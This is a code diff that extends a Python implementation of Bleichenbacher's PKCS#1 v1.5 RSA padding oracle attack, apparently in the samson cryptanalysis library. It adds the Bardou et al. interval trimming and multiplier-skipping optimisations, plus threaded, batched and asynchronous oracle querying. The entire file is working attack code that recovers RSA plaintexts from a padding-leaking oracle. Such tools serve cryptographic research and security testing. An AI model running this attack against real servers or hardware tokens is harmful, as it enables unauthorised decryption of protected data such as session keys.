@@ -2,12 +2,19 @@ from samson.oracles.padding_oracle import PaddingOracle
 from samson.utilities.bytes import Bytes
 from samson.utilities.exceptions import NoSolutionException
 from samson.utilities.runtime import RUNTIME
+from samson.math.general import lcm, mod_inv
+from itertools import count, islice
 from random import randint
+from timeit import default_timer
 import math
 
 import logging
 log = logging.getLogger(__name__)
 
+# Largest common denominator of the trimmers used to shrink the initial interval
+_MAX_TRIMMER_DENOMINATOR = 2**12
+
+
 def _ceil(a, b):
     return (a + b - 1) // b
 
@@ -23,6 +30,34 @@ def _append_and_merge(new_a, new_b, intervals):
     intervals.append((new_a, new_b))
 
 
+def _skip_holes(n: int, B: int, a: int, b: int, s_min: int):
+    """
+    Yields the multipliers `s >= s_min` for which `m*s mod n` can fall in [2B, 3B) for some `m` in [a, b]. Multipliers
+    in the holes between the windows [(2B + rn)/b, (3B - 1 + rn)/a] are skipped.
+    """
+    r = max(1, _ceil(a*s_min - 3*B + 1, n))
+    s = s_min
+
+    while True:
+        for s in range(max(s, _ceil(2*B + r*n, b)), (3*B - 1 + r*n) // a + 1):
+            yield s
+
+        s += 1
+        r += 1
+
+
+def _single_interval(n: int, B: int, a: int, b: int, s: int):
+    """
+    Yields the multipliers of step 2.c, which roughly halve the single interval [a, b] each iteration.
+    """
+    r = _ceil(2 * (b*s - 2*B), n)
+
+    while True:
+        yield from range(_ceil(2*B + r*n, b), (3*B + r*n) // a + 1)
+        r += 1
+
+
+
 class PKCS1v15PaddingOracleAttack(object):
     """
     Performs a plaintext recovery attack.
@@ -31,34 +66,147 @@ class PKCS1v15PaddingOracleAttack(object):
     takes advantage of an information leak through the validation of the plaintext's padding. Using RSA's homomorphic
     properties, the algorithm can iteratively converge on the correct plaintext.
 
+    This implementation includes the improvements of Bardou et al.: "trimmers" shrink the initial interval before the
+    search, and the search for `s` skips the multipliers that can't produce a conforming plaintext. Candidates can be
+    checked in concurrent batches.
+
     Conditions:
         * RSA is being used
         * PKCS#1 v1.5 padding is being used
         * The user has access to an oracle that allows abitrary plaintext input and leaks whether the padding is correct.
+
+    References:
+        "Efficient Padding Oracle Attacks on Cryptographic Hardware" (https://hal.inria.fr/hal-00691958/document)
     """
 
-    def __init__(self, oracle: PaddingOracle):
+    def __init__(self, oracle: PaddingOracle, threads: int=1, batch_size: int=None, trimmers: int=500):
         """
         Parameters:
             oracle (PaddingOracle): An oracle that takes in an integer and returns whether the padding is correct.
+            threads          (int): Number of threads to check candidates with (synchronous oracles only).
+            batch_size       (int): Number of candidates to check at once. Defaults to `threads` (one for `execute_async`: set it to the oracle's concurrency).
+            trimmers         (int): Number of trimming fractions to try before the search. Zero disables trimming.
         """
-        self.oracle = oracle
+        self.oracle     = oracle
+        self.threads    = threads
+        self.batch_size = batch_size
+        self.trimmers   = trimmers
 
+        self.queries = 0
+        self.elapsed = 0.0
 
 
-    @RUNTIME.report
-    def execute(self, ciphertext: int, n: int, e: int, key_length: int) -> Bytes:
+    def __repr__(self):
+        return f"<PKCS1v15PaddingOracleAttack: oracle={self.oracle}, threads={self.threads}, batch_size={self.batch_size}, trimmers={self.trimmers}>"
+
+    def __str__(self):
+        return self.__repr__()
+
+
+    def _query(self, ciphertexts: list, expected: bool):
+        if expected is None:
+            self.queries += len(ciphertexts)
+            return self.oracle.check_many(ciphertexts, self.threads)
+
+        idx, queries  = self.oracle.find_first(ciphertexts, expected, self.threads)
+        self.queries += queries
+        return idx
+
+
+    async def _query_async(self, ciphertexts: list, expected: bool):
+        if expected is None:
+            self.queries += len(ciphertexts)
+            return await self.oracle.check_many(ciphertexts)
+
+        idx, queries  = await self.oracle.find_first(ciphertexts, expected)
+        self.queries += queries
+        return idx
+
+
+    def _log_stats(self):
+        log.info(f"{self.queries} oracle queries in {self.elapsed:.2f}s ({self.queries / max(self.elapsed, 1e-9):.1f} queries/s)")
+
+
+    def _search(self, c_0: int, candidates: object, e: int, n: int, batch_size: int):
+        # Yields batches of (ciphertexts, expected) and receives the index of the first match
+        candidates = iter(candidates)
+
+        while True:
+            batch = list(islice(candidates, batch_size))
+
+            if not batch:
+                raise NoSolutionException("Exhausted the candidates for 's'")
+
+            idx = yield [c_0 * pow(s, e, n) % n for s in batch], True
+
+            if idx is not None:
+                return batch[idx]
+
+
+    def _trim(self, c_0: int, e: int, n: int, B: int, batch_size: int):
         """
-        Executes the attack.
+        Shrinks [2B, 3B) by finding fractions u/t such that m*u/t is also conforming (and therefore `t` divides `m`).
+        """
+        pairs   = [(u, t) for t in range(3, _MAX_TRIMMER_DENOMINATOR) for u in (t-1, t+1)][:self.trimmers]
+        results = yield [c_0 * pow(u * mod_inv(t, n), e, n) % n for u, t in pairs], None
+        found   = [(u, t) for (u, t), conforming in zip(pairs, results) if conforming]
 
-        Parameters:
-            ciphertext (int): The ciphertext represented as an integer.
-                     n (int): The RSA instance's modulus.
-                     e (int): The RSA instance's public exponent.
-            key_length (int): The the bit length of the RSA instance (2048, 4096, etc).
+        if not found:
+            return 2*B, 3*B - 1
 
-        Returns:
-            Bytes: The ciphertext's corresponding plaintext.
+        t_prime = 1
+        for _, t in found:
+            if lcm(t_prime, t) <= _MAX_TRIMMER_DENOMINATOR:
+                t_prime = lcm(t_prime, t)
+
+        found = [(u * t_prime // t, t) for u, t in found if not t_prime % t]
+        log.debug(f"Found {len(found)} trimmers with common denominator {t_prime}")
+
+
+        def trim_ciphertexts(numerators):
+            inv_t = mod_inv(t_prime, n)
+            return [c_0 * pow(u * inv_t, e, n) % n for u in numerators]
+
+        # Walk outwards to the last conforming numerators
+        u_min = min(found)[0]
+        while True:
+            numerators = list(range(u_min - 1, u_min - 1 - batch_size, -1))
+            idx = yield trim_ciphertexts(numerators), False
+
+            if idx is not None:
+                u_min = numerators[idx] + 1
+                break
+
+            u_min = numerators[-1]
+
+
+        u_max = max(found)[0]
+        while True:
+            numerators = list(range(u_max + 1, u_max + 1 + batch_size))
+            idx = yield trim_ciphertexts(numerators), False
+
+            if idx is not None:
+                u_max = numerators[idx] - 1
+                break
+
+            u_max = numerators[-1]
+
+
+        a = max(2*B, _ceil(2*B*t_prime, u_min), _ceil(3*B*t_prime, u_max + 1))
+        b = min(3*B - 1, (3*B*t_prime - 1) // u_max, (2*B*t_prime - 1) // (u_min - 1))
+
+        if a > b:
+            return 2*B, 3*B - 1
+
+        log.debug(f"Trimmed initial interval by {math.log2(B / (b - a + 1)):.2f} bits")
+
+        return a, b
+
+
+    def _steps(self, ciphertext: int, n: int, e: int, key_length: int, batch_size: int):
+        """
+        Runs the attack as a generator. It yields (ciphertexts, expected) batches and receives the index of the first
+        ciphertext whose padding check returns `expected` (or every result if `expected` is None).
         """
         key_byte_len = key_length // 8
 
@@ -66,25 +214,47 @@ class PKCS1v15PaddingOracleAttack(object):
         B = 2 ** (8 * (key_byte_len - 2))
 
         # Initial values
-        c = ciphertext
         c_0 = ciphertext
-        M = [(2*B, 3*B - 1)]
-        i = 1
+        s_0 = 1
 
-        if not self.oracle.check_padding(c):
+        if (yield [ciphertext], True) is None:
             log.debug("Initial padding not correct; attempting blinding")
 
             # Step 1: Blinding
-            while True:
-                s = randint(0, n - 1)
-                c_0 = (c * pow(s, e, n)) % n
+            s_0 = yield from self._search(ciphertext, (randint(2, n - 1) for _ in count()), e, n, batch_size)
+            c_0 = ciphertext * pow(s_0, e, n) % n
+            log.debug("Padding is now correct; blinding complete")
+
+
+        M = [(2*B, 3*B - 1)]
+
+        if self.trimmers:
+            trimmed = yield from self._trim(c_0, e, n, B, batch_size)
+
+            try:
+                m = yield from self._narrow(c_0, [trimmed], e, n, B, batch_size)
 
-                if self.oracle.check_padding(c_0):
-                    log.debug("Padding is now correct; blinding complete")
-                    break
+                if pow(m, e, n) != c_0:
+                    raise NoSolutionException("Recovered plaintext doesn't match the ciphertext")
+
+            except NoSolutionException:
+                # A false trimmer (i.e. one whose denominator doesn't divide `m`) leads to the wrong interval
+                log.debug("Trimmed interval was inconsistent; restarting without trimming")
+                m = yield from self._narrow(c_0, M, e, n, B, batch_size)
+        else:
+            m = yield from self._narrow(c_0, M, e, n, B, batch_size)
+
+        return Bytes(b'\x00' + Bytes(m * mod_inv(s_0, n) % n))
+
+
+    def _narrow(self, c_0: int, M: list, e: int, n: int, B: int, batch_size: int):
+        """
+        Steps 2 and 3. Narrows the intervals `M` down to the (blinded) plaintext.
+        """
+        i = 1
 
         # Setup reporting
-        last_log_diff = math.log(M[0][1] - M[0][0], 2)
+        last_log_diff = math.log(M[0][1] - M[0][0] + 1, 2)
         progress = RUNTIME.report_progress(None, total=last_log_diff)
 
         # Step 2
@@ -98,25 +268,15 @@ class PKCS1v15PaddingOracleAttack(object):
 
             # Step 2.a
             if i == 1:
-                s = _ceil(n, 3*B)
-
-                log.debug(f"Starting search at {s}")
-
-                while True:
-                    c = c_0 * pow(s, e, n) % n
-                    if self.oracle.check_padding(c):
-                        break
+                a, b = M[0]
+                s    = yield from self._search(c_0, _skip_holes(n, B, a, b, _ceil(n + 2*B, b)), e, n, batch_size)
 
-                    s += 1
             # Step 2.b
             elif len(M) >= 2:
                 log.debug(f"Intervals left: {M}")
-                while True:
-                    s += 1
-                    c = c_0 * pow(s, e, n) % n
-
-                    if self.oracle.check_padding(c):
-                        break
+                a = min(interval[0] for interval in M)
+                b = max(interval[1] for interval in M)
+                s = yield from self._search(c_0, _skip_holes(n, B, a, b, s + 1), e, n, batch_size)
 
             # Step 2.c
             elif len(M) == 1:
@@ -125,20 +285,9 @@ class PKCS1v15PaddingOracleAttack(object):
                 a, b = M[0]
 
                 if a == b:
-                    return Bytes(b'\x00' + Bytes(a))
-
-                r = _ceil(2 * (b*s - 2*B), n)
-                s = _ceil(2*B + r*n, b)
+                    return a
 
-                while True:
-                    c = c_0 * pow(s, e, n) % n
-                    if self.oracle.check_padding(c):
-                        break
-
-                    s += 1
-                    if s > (3*B + r*n) // a:
-                        r += 1
-                        s = _ceil(2*B + r*n, b)
+                s = yield from self._search(c_0, _single_interval(n, B, a, b, s), e, n, batch_size)
 
             M_new = []
 
@@ -151,8 +300,7 @@ class PKCS1v15PaddingOracleAttack(object):
                     new_b = min(b, (3*B - 1 + r*n) // s)
 
                     if new_a > new_b:
-                        raise Exception("Step 3: new_a > new_b? new_a: {} new_b: {}".format(new_a, new_b))
-
+                        continue
 
                     # Now we need to check for overlap between ranges and merge them
                     _append_and_merge(new_a, new_b, M_new)
@@ -163,3 +311,70 @@ class PKCS1v15PaddingOracleAttack(object):
 
             M = M_new
             i += 1
+
+
+
+    @RUNTIME.report
+    def execute(self, ciphertext: int, n: int, e: int, key_length: int) -> Bytes:
+        """
+        Executes the attack.
+
+        Parameters:
+            ciphertext (int): The ciphertext represented as an integer.
+                     n (int): The RSA instance's modulus.
+                     e (int): The RSA instance's public exponent.
+            key_length (int): The the bit length of the RSA instance (2048, 4096, etc).
+
+        Returns:
+            Bytes: The ciphertext's corresponding plaintext.
+        """
+        self.queries = 0
+        start = default_timer()
+        steps = self._steps(ciphertext, n, e, key_length, self.batch_size or self.threads)
+
+        try:
+            request = next(steps)
+
+            while True:
+                request = steps.send(self._query(*request))
+
+        except StopIteration as stop:
+            return stop.value
+
+        finally:
+            self.elapsed = default_timer() - start
+            self._log_stats()
+
+
+
+    @RUNTIME.report
+    async def execute_async(self, ciphertext: int, n: int, e: int, key_length: int) -> Bytes:
+        """
+        Executes the attack with an asynchronous oracle (e.g. `AsyncPaddingOracle`). Each batch of candidates is checked
+        concurrently.
+
+        Parameters:
+            ciphertext (int): The ciphertext represented as an integer.
+                     n (int): The RSA instance's modulus.
+                     e (int): The RSA instance's public exponent.
+            key_length (int): The the bit length of the RSA instance (2048, 4096, etc).
+
+        Returns:
+            Bytes: The ciphertext's corresponding plaintext.
+        """
+        self.queries = 0
+        start = default_timer()
+        steps = self._steps(ciphertext, n, e, key_length, self.batch_size or self.oracle.concurrency)
+
+        try:
+            request = next(steps)
+
+            while True:
+                request = steps.send(await self._query_async(*request))
+
+        except StopIteration as stop:
+            return stop.value
+
+        finally:
+            self.elapsed = default_timer() - start
+            self._log_stats()